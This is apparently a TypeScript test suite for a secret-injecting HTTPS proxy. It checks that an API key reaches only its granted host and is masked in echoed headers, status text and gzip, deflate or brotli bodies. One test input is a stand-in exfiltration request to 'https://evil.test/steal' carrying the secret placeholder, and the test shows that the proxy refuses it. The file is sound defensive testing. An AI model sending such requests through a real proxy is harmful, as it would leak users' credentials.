import assert from "node:assert/strict";
import http from "node:http";
import { after, before, describe, test } from "node:test";
import zlib from "node:zlib";
import { resolveSecrets } from "../../../src/net/secrets/resolve-secrets.js";
import { parseSecretFlag } from "../../../src/net/secrets/secret-grant.js";
import { parseNetGrants } from "../../../src/policy/net-grant.js";
import { rawExchange, startSecretProxy, startTestApi, tlsThroughProxy, type SecretProxy } from "./secret-proxy.js";

const REAL = "sk-live-REALVALUE-7f3a9c";
/** Whether text carries the real value, in any letter case (a server may lower-case what it echoes). */
const leaks = (text: string): boolean => text.toLowerCase().includes(REAL.toLowerCase());

/** Every way a body could be read back: as sent, and through each decoder that accepts it. */
function readings(body: Buffer): string[] {
  const decoders = [zlib.gunzipSync, zlib.inflateSync, zlib.inflateRawSync, zlib.brotliDecompressSync];
  const texts = [body.toString("latin1")];
  for (const decode of decoders) {
    try {
      const once = decode(body);
      texts.push(once.toString("latin1"));
      for (const again of decoders) {
        try {
          texts.push(again(once).toString("latin1"));
        } catch { /* not that encoding */ }
      }
    } catch { /* not that encoding */ }
  }
  return texts;
}

/** A request through the intercepted tunnel, parsed by Node's HTTP client: status text, raw headers, body. */
function request(proxy: SecretProxy, port: number, path: string, headers: Record<string, string> = {}): Promise<{ status: number; statusMessage: string; rawHeaders: string[]; body: Buffer }> {
  return tlsThroughProxy(proxy.port, "api.test", port, proxy.caPem).then((socket) => new Promise((resolve, reject) => {
    const req = http.request({ createConnection: () => socket, path, headers: { host: "api.test", connection: "close", ...headers } }, (res) => {
      const chunks: Buffer[] = [];
      res.on("data", (chunk: Buffer) => chunks.push(chunk));
      res.on("end", () => resolve({ status: res.statusCode ?? 0, statusMessage: res.statusMessage ?? "", rawHeaders: res.rawHeaders, body: Buffer.concat(chunks) }));
    });
    req.on("error", reject);
    req.end();
  }));
}

describe("secrets: an intercepted tunnel carries the real value only to its host, and never back", () => {
  let api: Awaited<ReturnType<typeof startTestApi>>;
  let proxy: SecretProxy;
  const seen: Array<{ url: string; authorization: string | undefined }> = [];
  const pins = new Map([["api.test", "127.0.0.1"]]);

  before(async () => {
    api = await startTestApi(["api.test"], (req, res) => {
      const auth = req.headers.authorization ?? "";
      seen.push({ url: req.url ?? "", authorization: req.headers.authorization });
      const echo = Buffer.from(JSON.stringify({ echo: auth }));
      const url = req.url ?? "";
      if (url === "/reason") res.writeHead(200, `OK ${auth}`, { "content-type": "text/plain" }).end("fine\n");
      else if (url === "/header-name") res.writeHead(200, { [`x-${auth}`]: "1", "x-value": auth }).end("fine\n");
      else if (url === "/gzip") res.writeHead(200, { "content-encoding": "gzip" }).end(zlib.gzipSync(echo));
      else if (url === "/deflate") res.writeHead(200, { "content-encoding": "deflate" }).end(zlib.deflateSync(echo));
      else if (url === "/br") res.writeHead(200, { "content-encoding": "br" }).end(zlib.brotliCompressSync(echo));
      else if (url === "/gzip-twice") res.writeHead(200, { "content-encoding": "gzip, gzip" }).end(zlib.gzipSync(zlib.gzipSync(echo)));
      // A transfer coding under the chunking: Node's parser removes only the chunking.
      else if (url === "/te-gzip") res.writeHead(200, { "transfer-encoding": "gzip, chunked" }).end(zlib.gzipSync(echo));
      else if (url === "/coding-echo") res.writeHead(200, { "content-encoding": auth }).end(echo);
      // Bytes cordon cannot decode, under a name it does not know.
      else if (url === "/unknown") res.writeHead(200, { "content-encoding": "zstd" }).end(zlib.gzipSync(echo));
      else res.end(echo);
    });
    proxy = await startSecretProxy({ grants: ["api.test"], pins, upstreamCa: [api.caPem], secrets: { MY_KEY: { value: REAL, hosts: ["api.test"] } } });
  });
  after(async () => {
    await proxy.proxy.close();
    await api.close();
  });

  test("an absolute-form request target naming another site is refused inside the tunnel (the value never reaches a URL)", async () => {
    seen.length = 0;
    proxy.secretEvents.length = 0;
    const placeholder = proxy.placeholder("MY_KEY");
    for (const target of [`https://evil.test/steal?k=${placeholder}`, `http://api.test:${api.port}/x?k=${placeholder}`, "api.test:443"]) {
      const socket = await tlsThroughProxy(proxy.port, "api.test", api.port, proxy.caPem);
      const reply = (await rawExchange(socket, `GET ${target} HTTP/1.1\r\nHost: api.test\r\nAuthorization: ${placeholder}\r\nConnection: close\r\n\r\n`)).toString("latin1");
      assert.match(reply, /^HTTP\/1.1 400 /, target);
      assert.match(reply, /origin-form/, target);
      assert.match(reply, target.includes("/") ? /named its target/ : /HTTP parser refused/, target);
      assert.ok(!leaks(reply), target);
    }
    assert.equal(seen.length, 0, "nothing reached the API");
    assert.ok(proxy.secretEvents.some((e) => e.type === "exchange-refused"), JSON.stringify(proxy.secretEvents));
    assert.ok(proxy.secretEvents.some((e) => e.type === "secret-exfiltration" && e.name === "MY_KEY" && e.where === "url" && e.host === "evil.test"), JSON.stringify(proxy.secretEvents));
    // The tunnel still works for origin-form requests.
    const ok = await request(proxy, api.port, "/plain", { authorization: placeholder });
    assert.equal(ok.status, 200);
    assert.deepEqual(seen.map((s) => [s.url, s.authorization]), [["/plain", REAL]]);
  });

  test("an echo in the status text or in a header name comes back masked", async () => {
    const placeholder = proxy.placeholder("MY_KEY");
    const reason = await request(proxy, api.port, "/reason", { authorization: placeholder });
    assert.equal(reason.statusMessage, `OK ${placeholder}`);
    const named = await request(proxy, api.port, "/header-name", { authorization: placeholder });
    assert.ok(!leaks(named.rawHeaders.join("\n")), named.rawHeaders.join("\n"));
    assert.ok(named.rawHeaders.includes(`x-${placeholder}`), named.rawHeaders.join("\n"));
    assert.equal(seen.at(-1)?.authorization, REAL, "the API did receive the real value");
  });

  test("a compressed echo (gzip, deflate, br, stacked) is decoded and masked; an encoding cordon cannot read is refused", async () => {
    const placeholder = proxy.placeholder("MY_KEY");
    for (const path of ["/gzip", "/deflate", "/br", "/gzip-twice", "/te-gzip"]) {
      const reply = await request(proxy, api.port, path, { authorization: placeholder, "accept-encoding": "gzip, deflate, br" });
      assert.equal(reply.status, 200, path);
      for (const text of readings(reply.body)) assert.ok(!leaks(text), `${path}: the real value came back`);
      assert.deepEqual(JSON.parse(reply.body.toString()), { echo: placeholder }, path);
      assert.ok(!reply.rawHeaders.some((h) => /^content-encoding$/i.test(h)), `${path}: ${reply.rawHeaders.join(" ")}`);
      assert.equal(seen.at(-1)?.authorization, REAL, path);
    }
    proxy.secretEvents.length = 0;
    const unknown = await request(proxy, api.port, "/unknown", { authorization: placeholder });
    assert.equal(unknown.status, 502);
    for (const text of readings(unknown.body)) assert.ok(!leaks(text), "/unknown: the real value came back");
    assert.match(unknown.body.toString(), /zstd/);
    assert.ok(proxy.secretEvents.some((e) => e.type === "exchange-refused" && /zstd/.test(e.reason)), JSON.stringify(proxy.secretEvents));
    // The name of the coding is the server's text too.
    const echoed = await request(proxy, api.port, "/coding-echo", { authorization: placeholder });
    assert.equal(echoed.status, 502);
    assert.ok(!leaks(echoed.body.toString()), echoed.body.toString());
    assert.match(echoed.body.toString(), new RegExp(placeholder));
    assert.ok(!leaks(JSON.stringify(proxy.secretEvents)));
  });
});

describe("secrets: any network grant that covers the host will do", () => {
  test("a host granted on one port, or by a wildcard, carries its secret; an ungranted host is still refused", () => {
    const ok = (flag: string, grants: string[]): void => {
      const [secret] = resolveSecrets([parseSecretFlag(flag)], { K: "v" }, parseNetGrants(grants));
      assert.equal(secret?.value, "v");
    };
    ok("K@api.test", ["api.test:443"]);
    ok("K@api.test", ["api.test:8443"]);
    ok("K@api.example.test", ["*.example.test"]);
    ok("K@api.example.test", ["*.example.test:8443"]);
    ok("K@10.0.0.5", ["10.0.0.5:8080"]);
    assert.throws(() => resolveSecrets([parseSecretFlag("K@api.test")], { K: "v" }, parseNetGrants(["other.test", "*.api.test"])),
      /K is bound to api\.test, which is not granted network access/);
  });

  test("a secret bound to a host granted only on its API's port reaches that port with the real value", async () => {
    const seen: Array<string | undefined> = [];
    const api = await startTestApi(["api.test"], (req, res) => {
      seen.push(req.headers.authorization);
      res.end("ok\n");
    });
    let proxy: SecretProxy | undefined;
    try {
      proxy = await startSecretProxy({ grants: [`api.test:${api.port}`], pins: new Map([["api.test", "127.0.0.1"]]), upstreamCa: [api.caPem], secrets: { K: { value: REAL, hosts: ["api.test"] } } });
      const reply = await request(proxy, api.port, "/", { authorization: proxy.placeholder("K") });
      assert.equal(reply.status, 200);
      assert.deepEqual(seen, [REAL]);
    } finally {
      await proxy?.proxy.close();
      await api.close();
    }
  });
});
